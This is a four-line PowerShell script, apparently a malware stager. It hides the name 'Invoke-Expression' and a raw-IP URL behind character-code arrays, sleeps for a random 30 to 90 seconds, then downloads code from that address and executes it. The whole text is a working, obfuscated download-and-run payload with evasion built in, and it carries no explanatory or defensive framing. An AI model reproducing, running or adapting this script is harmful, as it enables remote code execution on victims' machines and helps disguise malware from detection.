$n = [char]73 + [char]110 + [char]118 + [char]111 + [char]107 + [char]101 + [char]45 + [char]69 + [char]120 + [char]112 + [char]114 + [char]101 + [char]115 + [char]115 + [char]105 + [char]111 + [char]110
$src = -join ([char[]](104, 116, 116, 112, 58, 47, 47, 57, 49, 46, 50, 49, 53, 46, 56, 53, 46, 49, 52, 50, 47, 97))
Start-Sleep -Seconds (Get-Random -Minimum 30 -Maximum 90)
& $n ((New-Object Net.WebClient).DownloadString($src))
